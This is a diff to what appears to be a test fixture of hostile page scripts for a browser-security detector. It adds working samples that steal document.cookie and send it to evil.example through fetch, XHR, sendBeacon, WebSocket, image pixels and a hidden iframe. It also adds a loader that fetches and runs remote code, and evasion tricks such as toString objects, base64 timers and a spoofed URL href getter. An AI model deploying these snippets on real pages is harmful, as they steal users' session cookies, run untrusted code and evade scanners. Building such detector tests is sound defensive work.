@@ -111,6 +111,10 @@ export const MAIN_WORLD_SCRIPTS = {
   'remote-loader': `fetch('https://${HELPER_CDN}/payload.txt').then((r) => r.text()).then((code) => new Function(code)());`,
   payload: `/* helper payload */ ${ADD_TO_CART}.click(); window.__helperPayload = true;`,
 
+  /** The same loader and hidden timer, the code handed over as objects whose toString makes the text. */
+  'object-loader': `fetch('https://${HELPER_CDN}/payload.txt').then((r) => r.text()).then((code) => new Function({ toString: () => code })());`,
+  'object-timer': `setTimeout({ toString: () => atob(${JSON.stringify(Buffer.from(`/* hidden in an object */ window.__objectTimerRan = true;`).toString('base64'))}) }, 0);`,
+
   /** Hides its code in base64 and runs it through a string timer. */
   'decoded-timer': `setTimeout(atob(${JSON.stringify(Buffer.from(`/* hidden */ ${ADD_TO_CART}.click();`).toString('base64'))}), 0);`,
 
@@ -166,7 +170,8 @@ export const MAIN_WORLD_SCRIPTS = {
 
   /**
    * Image pixels the HTML parser creates: markup into a detached element (it loads all the same), next to
-   * an element, in place of one, into a closed shadow root, and through a Range's contextual fragment.
+   * an element, in place of one, into a closed shadow root, through a Range's contextual fragment, as an
+   * object whose toString makes the markup, and written into a fresh frame's document (the tag split in two).
    */
   'markup-pixel': `(() => {
   const c = encodeURIComponent(document.cookie);
@@ -178,6 +183,38 @@ export const MAIN_WORLD_SCRIPTS = {
   const host = document.body.appendChild(document.createElement('div'));
   host.attachShadow({ mode: 'closed' }).innerHTML = '<img src="' + to('p-shadow') + '">';
   document.body.append(document.createRange().createContextualFragment('<img src="' + to('p-fragment') + '">'));
+  // Markup that is not a string: the setter converts it, running the page's own toString.
+  document.createElement('div').innerHTML = { toString: () => '<img src="' + to('p-object') + '">' };
+  // Written into a fresh frame's document, the tag split over two writes.
+  const frame = document.body.appendChild(document.createElement('iframe'));
+  frame.style.display = 'none';
+  const written = frame.contentDocument;
+  written.open();
+  written.write('<body><im');
+  written.writeln('g src="' + to('p-write') + '">');
+  written.close();
+})();`,
+
+  /**
+   * Cookies sent to URLs given as objects, which the browser turns into text itself: an object whose
+   * toString names the endpoint (fetch, XHR, sendBeacon, WebSocket, img.src, setAttribute), and a URL object
+   * whose `href` getter the page rewrote to name the shop (its native toString still names the endpoint).
+   */
+  'object-urls': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  const at = (name) => ({ toString: () => 'https://evil.example/' + name + '?c=' + c });
+  fetch(at('o-fetch'), { method: 'POST', mode: 'no-cors', body: c }).catch(() => {});
+  const x = new XMLHttpRequest();
+  x.open('POST', at('o-xhr'));
+  x.send(c);
+  navigator.sendBeacon(at('o-beacon'), c);
+  const socket = new WebSocket({ toString: () => 'wss://evil.example/o-socket?c=' + c });
+  socket.onerror = () => {};
+  new Image().src = at('o-image.gif');
+  document.createElement('img').setAttribute('src', at('o-attribute.gif'));
+  const lying = new URL('https://evil.example/o-lying-href?c=' + c);
+  Object.defineProperty(URL.prototype, 'href', { configurable: true, get: () => location.origin + '/static/app.js' });
+  fetch(lying, { mode: 'no-cors' }).catch(() => {});
 })();`,
 
   /** Leaks storage by sendBeacon to a webhook site. */
